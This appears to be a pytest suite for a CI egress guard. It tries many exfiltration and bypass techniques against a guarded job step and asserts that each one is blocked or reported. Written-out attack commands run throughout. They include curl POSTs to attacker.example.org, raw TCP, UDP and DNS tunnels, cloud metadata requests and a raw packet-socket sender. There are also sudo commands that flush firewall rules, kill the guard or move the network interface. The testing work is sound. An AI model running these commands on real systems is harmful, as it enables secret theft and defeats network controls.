"""What a step may try against the guard of a whole job, as the runner's user: without root, and with sudo kept.

Judged by what left eth0. With sudo a step can undo what is on its own kernel; that is noticed and fails the job.
"""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest

from tests.attacks.programs import ask_name, python, raw_http, request, send_tcp, send_udp
from tests.job.guarded import Job
from tests.machine import Machine
from tests.world.internet import ATTACKERS, EVIL, EVIL6, INTERNAL, METADATA

pytestmark = pytest.mark.root
PLATFORM = "168.63.129.16"
TARGETS = (*ATTACKERS, METADATA, INTERNAL, PLATFORM)
_STOLEN = request("attacker.example.org", method="POST", path="/steal", body="stolen=1")

WAYS = {
    "https": ["curl", "-sSk", "-m", "9", "-d", "stolen", "https://attacker.example.org/"],
    "address literal": ["curl", "-sSk", "-m", "9", "-d", "stolen", f"https://{EVIL}/"],
    "IPv6 literal": ["curl", "-sSgk", "-m", "9", "-d", "stolen", f"http://[{EVIL6}]/"],
    "raw TCP": send_tcp(EVIL, 4444),
    "mapped address": send_tcp(f"::ffff:{EVIL}", 4444),
    "UDP": send_udp(EVIL, 4444),
    "QUIC": send_udp(EVIL, 443),
    "QUIC over IPv6": send_udp(EVIL6, 443),
    "DNS over UDP to another resolver": ask_name(EVIL, "stolen.attacker.example.org"),
    "DNS over TCP to another resolver": ask_name(EVIL, "stolen.attacker.example.org", tcp=True),
    "DNS over TLS": send_tcp(EVIL, 853),
    "ping": ["ping", "-c", "1", "-W", "1", EVIL],
    "ping over IPv6": ["ping", "-6", "-c", "1", "-W", "1", EVIL6],
    "forged Host": raw_http(EVIL, 80, request("api.example.com", method="POST", body="stolen")),
    "forged server name": raw_http(EVIL, 443, _STOLEN, tls="api.example.com"),
    "metadata": ["curl", "-sS", "-m", "5", f"http://{METADATA}/latest/meta-data/"],
    "the platform's address": ["curl", "-sS", "-m", "5", f"http://{PLATFORM}:32526/vmSettings"],
    "a process that left its session twice": [
        "bash", "-c", "setsid bash -c 'setsid curl -sSk -m 9 -d stolen https://attacker.example.org/ & disown' & sleep 1.5",
    ],
    "a new network namespace of one's own": ["unshare", "-Urn", "sh", "-c", f"ip link set lo up; ping -c1 -W1 {EVIL}; true"],
    "an interface of one's choice": python(
        "import socket\n"
        "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0'); s.settimeout(4)\n"
        f"s.connect(({EVIL!r}, 4444)); s.sendall(b'stolen'); print(s.recv(10))\n"
    ),
    "the gate's own port": python(
        "import re, socket\n"
        "ports = {int(line.split()[1].split(':')[1], 16) for line in open('/proc/net/tcp').readlines()[1:] if line.split()[3] == '0A'}\n"
        "for port in ports:\n"
        "    s = socket.socket(); s.settimeout(2)\n"
        "    try:\n"
        "        s.connect(('127.0.0.1', port)); s.sendall(b'GET http://attacker.example.org/ HTTP/1.1\\r\\nHost: attacker.example.org\\r\\n\\r\\n')\n"
        "        print(port, s.recv(100))\n"
        "    except OSError as problem: print(port, problem)\n"
    ),
}  # fmt: skip
QUIET = {"a new network namespace of one's own", "the gate's own port"}  # nothing reached the gate, so there is nothing to say


@pytest.fixture(scope="module")
def bare() -> Iterator[Machine]:
    """A machine without a guard."""
    with Machine() as machine:
        yield machine


@pytest.fixture(scope="module")
def guarded() -> Iterator[Job]:
    """A guarded job that several attacks are tried in, one after another."""
    with Machine() as machine, Job(machine, allow="api.example.com http://api.example.com") as job:
        yield job


@pytest.mark.parametrize("name", [one for one in WAYS if one not in QUIET and one != "the platform's address"])
def test_unguarded_it_is_a_real_attack(bare: Machine, name: str) -> None:
    bare.world.forget()
    done = bare.run(WAYS[name], timeout=30)
    assert {one for one in bare.sent() if one[0] in TARGETS}, (done.stdout, done.stderr)


@pytest.mark.parametrize("name", WAYS)
def test_nothing_arrives_and_the_report_says_which_step(guarded: Job, name: str) -> None:
    world, step = guarded.machine.world, f"attack-{list(WAYS).index(name)}"
    world.forget()
    known = len(guarded.events())
    guarded.step(WAYS[name], name=step, timeout=30)
    verdict = guarded.verdict()
    assert {one for one in guarded.machine.sent() if one[0] in TARGETS} == set()
    assert [one for one in world.questions if "stolen" in one[0] or "attacker" in one[0]] == []
    if name in QUIET:
        assert "got GET" in guarded.step(["curl", "-sS", "https://api.example.com/"]).stdout
        return
    assert verdict.code == 90, verdict.stdout
    fresh = [one for one in guarded.events()[known:] if one.get("decision", {}).get("action") == "deny"]
    assert {(one["origin"]["step"] or {}).get("name") for one in fresh} == {step}, fresh


def test_a_secret_to_an_attacker_and_to_an_allowed_host_ends_the_step(machine: Machine, secret: str) -> None:
    with Job(machine, secrets={"DEPLOY_TOKEN": secret}, allow="api.example.com") as job:
        for host in ("attacker.example.org", "api.example.com"):
            script = f"(sleep 300 &) ; setsid sleep 301 & curl -s -X POST -d 'T={secret}' https://{host}/collect; sleep 20; echo went on"
            ended = job.step(["bash", "-c", script], name=f"to-{host.partition('.')[0]}", timeout=60)
            assert "went on" not in ended.stdout
            assert ended.code != 0
        assert secret.encode() not in machine.world.received(*ATTACKERS, "203.0.113.10")
        left = machine.run(["pgrep", "-fx", "sleep 30[01]"]).stdout
        assert left == ""
        verdict = job.verdict()
        assert verdict.code == 91
        assert {one["secret"] for one in verdict.report["incidents"] if one["kind"] == "exfiltration"} == {"DEPLOY_TOKEN"}
        assert secret not in verdict.stdout + verdict.stderr + str(verdict.report) + str(job.events())


def test_a_process_left_running_is_still_guarded_after_the_verdict(machine: Machine) -> None:
    with Job(machine, allow="api.example.com") as job:
        assert job.verdict().code == 0
        late = job.step(["curl", "-sSk", "-m", "9", "-d", "stolen", "https://attacker.example.org/"], name="late")
        assert "refused" in late.stdout
        assert machine.world.at(*ATTACKERS) == []
        assert job.verdict().code == 90


# With sudo. (command, what the guard must say of it). None: it has no effect, and so there is nothing to say.
SUDO = {
    "nft flush ruleset": ("nft flush ruleset", None),
    "nft delete table": ("nft delete table inet ebbgate", None),
    "nft add rule": ("nft insert rule inet ebbgate leaving accept", None),
    "iptables": ("iptables -F; iptables -P OUTPUT ACCEPT; iptables -t nat -F", None),
    "iptables nat before ours": (f"iptables -t nat -I OUTPUT -p tcp -j DNAT --to-destination {EVIL}:4444", None),
    "frames of a packet socket": ("python3 /tmp/frames.py", None),
    "moving the interface away": ("ip netns add away; ip link set eth0 netns away", "eth0"),
    "an interface on top of the uplink": ("ip link add link eth0 name mac0 type macvlan mode bridge", "mac0"),
    "passing for the gate's user": ("setpriv --reuid $(stat -c %u /proc/$(cat /tmp/gate)) --clear-groups sleep 20 & sleep 2", "passes for the gate"),
    "killing the gate": ("kill -9 $(cat /tmp/gate)", "the gate ended"),
    "removing the control socket": ("rm /run/ebbgate/control.sock; sleep 2; ls -l /run/ebbgate", None),
    "changing the bundle": ("sh -c 'chmod u+w /run/ebbgate/ca-bundle.pem; echo x >>/run/ebbgate/ca-bundle.pem'; sleep 1.5", "was changed"),
}  # fmt: skip
FRAMES = """
import socket, struct, subprocess
words = subprocess.run(["ip", "neigh", "get", "192.0.2.1", "dev", "eth0"], capture_output=True, text=True).stdout.split()
mac = bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))
udp = struct.pack("!HHHH", 4000, 4444, 14, 0) + b"stolen"
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton("192.0.2.2"), socket.inet_aton("ATTACKER"))
total = sum(struct.unpack("!10H", head))
total = (total & 0xFFFF) + (total >> 16)
head = head[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + head[12:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
out.sendto(head + udp, ("eth0", 0x0800, 0, 0, mac))
""".replace("ATTACKER", EVIL)


@pytest.mark.parametrize("name", SUDO)
def test_what_sudo_can_undo_is_noticed(machine: Machine, name: str) -> None:
    command, told = SUDO[name]
    machine.write("/tmp/frames.py", FRAMES)
    with Job(machine, allow="api.example.com") as job:
        machine.write("/tmp/gate", str(job.status()["gate"]))
        job.step(["curl", "-sS", "https://api.example.com/"])  # so that the neighbour's address is known
        machine.world.forget()
        job.step(["sudo", "sh", "-c", command], name="undo", timeout=30)
        job.step(["curl", "-sSk", "-m", "4", "-d", "stolen", f"https://{EVIL}/"], name="leak", timeout=30)
        assert {one for one in machine.sent() if one[0] in TARGETS} == set()
        if name == "removing the control socket":
            assert job.verdict().code == 93
            return
        verdict = job.verdict()
        assert verdict.code in ((90,) if told is None else (92, 93)), verdict.stdout
        if told is not None:
            assert any(told in one["detail"] for one in verdict.report["incidents"]), verdict.report["incidents"]


# With root's rights these do open a way. It is stated here that they do, and that the job fails for it.
OPENED = {
    "ending the warden and deleting its table": "kill -9 $(cat /tmp/warden); sleep 0.5; nft delete table inet ebbgate; nft delete table netdev ebbgate",
    "taking the interface to another namespace": (
        "ip netns add away; ip link set eth0 netns away; "
        "ip -n away addr add 192.0.2.2/24 dev eth0; ip -n away link set eth0 up; ip -n away route add default via 192.0.2.1"
    ),
    "passing for the gate": "G=$(cat /tmp/gate); U=$(stat -c %u /proc/$G); D=$(sed -n 's/^0:://p' /proc/$G/cgroup)",
}  # fmt: skip
_LEAK = f"curl -sSk -m 5 -d stolen https://{EVIL}/"
_THEN = {
    "ending the warden and deleting its table": _LEAK,
    "taking the interface to another namespace": f"ip netns exec away {_LEAK}",
    "passing for the gate": f"echo $$ >/sys/fs/cgroup$D/cgroup.procs; exec setpriv --reuid $U --regid $U --clear-groups {_LEAK}",
}


@pytest.mark.parametrize("name", OPENED)
def test_what_root_can_open_fails_the_job(machine: Machine, name: str) -> None:
    with Job(machine, allow="api.example.com") as job:
        status = job.status()
        machine.write("/tmp/gate", str(status["gate"]))
        machine.write("/tmp/warden", str(status["warden"]))
        job.step(["sudo", "sh", "-c", f"{OPENED[name]}; {_THEN[name]}"], name="undo", timeout=30)
        assert machine.world.at(EVIL), "it is held after all: say so in the README"
        assert job.verdict().code in (92, 93)


def test_a_killed_warden_leaves_the_machine_closed_and_the_job_failed(machine: Machine) -> None:
    with Job(machine, allow="api.example.com") as job:
        pid = job.status()["warden"]
        job.step(["sudo", "kill", "-9", str(pid)])
        for host in (f"https://{EVIL}/", "https://api.example.com/"):
            assert job.step(["curl", "-sSk", "-m", "4", host], timeout=30).code != 0
        job.step(send_udp(EVIL, 4444))
        assert {one for one in machine.sent() if one[0] in TARGETS} == set()
        assert job.verdict().code == 93


def test_stopped_parts_close_and_the_verdict_does_not_hang(machine: Machine) -> None:
    with Job(machine, allow="api.example.com") as job:
        pids = [str(job.status()[name]) for name in ("warden", "gate")]
        job.step(["sudo", "kill", "-STOP", *pids])
        assert job.step(["curl", "-sSk", "-m", "3", "https://api.example.com/"], timeout=30).code != 0
        began = time.monotonic()
        assert job.verdict().code == 93
        assert time.monotonic() - began < 30
        assert machine.sent() == set()
        job.step(["sudo", "kill", "-CONT", *pids])


def test_sudo_removed_is_gone_and_the_guard_says_so(machine: Machine) -> None:
    with Job(machine, sudo="remove", containers="close", allow="api.example.com") as job:
        assert job.step(["sudo", "-n", "true"]).code != 0
        assert job.step(["curl", "-sS", "https://api.example.com/"]).code == 0
        verdict = job.verdict()
        assert verdict.code == 0
        assert any("sudo was taken" in one["what"] for one in verdict.report["notices"])
    assert machine.run(["sudo", "-n", "true"]).code == 0
